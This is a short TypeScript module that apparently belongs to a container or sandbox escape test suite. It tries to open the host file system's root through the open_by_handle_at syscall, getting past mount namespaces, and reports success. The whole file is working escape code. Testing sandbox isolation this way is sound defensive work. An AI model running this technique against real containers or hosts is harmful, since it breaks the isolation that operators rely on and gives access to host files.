// Opens the host's root by file handle, past every mount (open_by_handle_at).
import { cString, pointer, syscall, type Target } from "../attack.ts";

export const layer = "namespaces";

export default function (_target: Target): string | null {
  // struct file_handle of inode 2, the root of an ext4 file system.
  const handle = new Uint8Array(16);
  const view = new DataView(handle.buffer);
  view.setUint32(0, 8, true);
  view.setInt32(4, 1, true);
  view.setUint32(8, 2, true);
  const folder = cString("/data");
  const mount = syscall(2, pointer(folder), 0o200000, 0);
  const root = syscall(304, mount, pointer(handle), 0);
  return root >= 0 ? "opened the root of the file system" : null;
}
